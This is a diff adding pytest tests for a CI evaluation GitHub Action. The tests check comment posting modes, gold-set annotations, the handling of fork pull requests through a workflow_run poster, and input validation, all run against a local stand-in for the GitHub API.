+def test_comment_modes(gh, checkout, tmp_path, base_zip, mode, existing, expected):
+    exact, artifact = add_push_run(gh, BASE, base_zip, TWO_HOURS)
+    comment_id = gh.add_comment(PR, f"{MARKER}\nstale report") if existing else None
+
+    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event(), comment=mode)
+
+    assert job.code == 0, job.stderr
+    lookup = [("GET", RUNS), ("GET", f"/actions/runs/{exact}/artifacts"),
+              ("GET", f"/actions/artifacts/{artifact}/zip")]
+    assert calls(gh) == lookup + [(m, p.format(id=comment_id)) for m, p in expected]
+    assert len(bodies(gh)) == (0 if mode != "always" and not existing else 1)
+    assert verdict_line(job.summary).startswith("### ✅ No change")
+    assert (job.bundle / "comment.md").is_file()
+
+
+def test_stale_gold_ids_are_annotated_on_their_gold_set_lines(gh, checkout, tmp_path):
+    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event(), comment="off")
+
+    assert job.code == 0, job.stderr
+    assert job.annotations() == [
+        f"::warning file=eval/gold.json,line={line_of(GOLD, 'q2')},title=ci-eval%3A q2::"
+        "stale gold id(s) not in the current index: retired"]
+
+
+# -- fork pull requests and the workflow_run poster ----------------------------------------
+
+
+@dataclass
+class ForkJob:
+    job: Job
+    calls: list[tuple[str, str]]
+
+
+@pytest.fixture(scope="module")
+def fork_job(checkout, base_zip, tmp_path_factory) -> ForkJob:
+    """A fork's pull_request job: a read-only token, so it comments nothing itself."""
+    with GitHubStandIn(REPO) as server:
+        server.read_only = True
+        server.add_pull(FORK_PR, head_sha=FORK_HEAD, base_sha=BASE, head_repo=FORK)
+        add_push_run(server, BASE, base_zip, TWO_HOURS)
+        job = run_action(server, tmp_path_factory.mktemp("fork"), checkout, "pull_request",
+                         pr_event(FORK_PR, FORK_HEAD, BASE, FORK), ref=f"refs/pull/{FORK_PR}/merge")
+        server.assert_clean()
+        return ForkJob(job, calls(server))
+
+
+def test_a_fork_pull_request_leaves_its_comment_in_the_artifact(fork_job):
+    job = fork_job.job
+    assert job.code == 0, job.stderr
+    assert [path for method, path in fork_job.calls if "/issues/" in path] == []
+    assert "fork pull request: the comment is in the artifact for the workflow_run poster" in job.stderr
+    assert sorted(p.name for p in job.bundle.iterdir()) == [
+        "ci-eval-base.json", "ci-eval-run.json", "comment.md", "pr.json", "scores.svg",
+        "summary.md"]
+    assert json.loads((job.bundle / "pr.json").read_text()) == {
+        "number": FORK_PR, "head_sha": FORK_HEAD, "base_sha": BASE}
+    assert (job.bundle / "comment.md").read_text().splitlines()[0] == MARKER
+    assert job.outputs["verdict"] == "pass" and job.outputs["comment-url"] == ""
+    assert verdict_line(job.summary).startswith("### ✅ No change")
+
+
+def _fork_pr_run(gh: GitHubStandIn, fork_job: ForkJob, pr_head: str) -> tuple[int, int]:
+    gh.add_pull(FORK_PR, head_sha=pr_head, base_sha=BASE, head_repo=FORK)
+    # Runs of fork pull requests list no pull requests: the poster must use pr.json.
+    run_id = gh.add_run(FORK_HEAD, head_branch="main", event="pull_request", head_repo=FORK,
+                        conclusion="success")
+    return run_id, gh.add_artifact(run_id, fork_job.job.bundle_zip())
+
+
+def test_the_workflow_run_poster_posts_the_fork_runs_comment(gh, fork_job, tmp_path):
+    run_id, artifact = _fork_pr_run(gh, fork_job, pr_head=FORK_HEAD)
+
+    job = run_action(gh, tmp_path, tmp_path, "workflow_run", workflow_run_event(run_id),
+                     sha=BASE, ref="refs/heads/main", mode="comment")
+
+    assert job.code == 0, job.stderr
+    assert calls(gh) == [
+        ("GET", f"/actions/runs/{run_id}"),
+        ("GET", f"/actions/runs/{run_id}/artifacts"),
+        ("GET", f"/actions/artifacts/{artifact}/zip"),
+        ("GET", f"/pulls/{FORK_PR}"),
+        ("GET", f"/issues/{FORK_PR}/comments"),
+        ("POST", f"/issues/{FORK_PR}/comments"),
+    ]
+    [body] = bodies(gh, FORK_PR)
+    assert body.splitlines()[0] == MARKER
+    assert verdict_line(body) == verdict_line(fork_job.job.summary)
+    assert baseline_line(body).startswith("**Baseline:** ")
+    [comment] = gh.comments_on(FORK_PR)
+    assert job.outputs == {
+        "comment-url": f"https://github.com/{REPO}/pull/{FORK_PR}#issuecomment-{comment['id']}",
+        "verdict": "pass",
+    }
+    assert bodies(gh, PR) == []
+
+
+def test_the_poster_refuses_when_the_pull_request_moved_on(gh, fork_job, tmp_path):
+    run_id, _ = _fork_pr_run(gh, fork_job, pr_head=fake_sha("a newer fork commit"))
+
+    job = run_action(gh, tmp_path, tmp_path, "workflow_run", workflow_run_event(run_id),
+                     sha=BASE, ref="refs/heads/main", mode="comment")
+
+    assert job.code == 2
+    assert ("GET", f"/pulls/{FORK_PR}") in calls(gh)
+    assert [c for c in calls(gh) if c[0] != "GET"] == []
+    assert bodies(gh, FORK_PR) == []
+    assert job.stderr.strip().splitlines() == [
+        f"ci-eval: posting the comment of the pull request run that triggered this workflow",
+        f"ci-eval: error: artifact ci-eval (id {gh.calls('actions/download-artifact')[0].path.split('/')[-2]}) "
+        f"of run {run_id}:pr.json: pull request #{FORK_PR} is at {fake_sha('a newer fork commit')[:7]}, "
+        f"but the run built {FORK_HEAD[:7]}: refusing to post another commit's results",
+    ]
+
+
+# -- inputs ---------------------------------------------------------------------------------
+
+
+def test_an_unknown_comment_mode_is_exit_2_with_one_line(gh, checkout, tmp_path):
+    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event(), comment="sometimes")
+
+    assert job.code == 2
+    assert job.stderr.splitlines() == [
+        "ci-eval: error: input comment: must be one of always, on-change, off, got 'sometimes'"]
+    assert gh.requests == [] and job.outputs == {} and job.summary == ""
+
+
+def test_a_missing_event_payload_is_exit_2_with_one_line(gh, checkout, tmp_path):
+    job = run_action(gh, tmp_path, checkout, "pull_request", None)
+
+    assert job.code == 2
+    assert job.stderr.splitlines() == [
+        "ci-eval: error: GITHUB_EVENT_PATH: is not set: ci-eval action runs inside a GitHub "
+        "Actions job"]
+    assert gh.requests == [] and job.outputs == {}
+
+
+def test_pull_request_target_is_refused(gh, checkout, tmp_path):
+    job = run_action(gh, tmp_path, checkout, "pull_request_target", pr_event())
+
+    assert job.code == 2
+    assert gh.requests == [] and not job.bundle.exists()
+    assert "pull_request_target is refused" in job.stderr
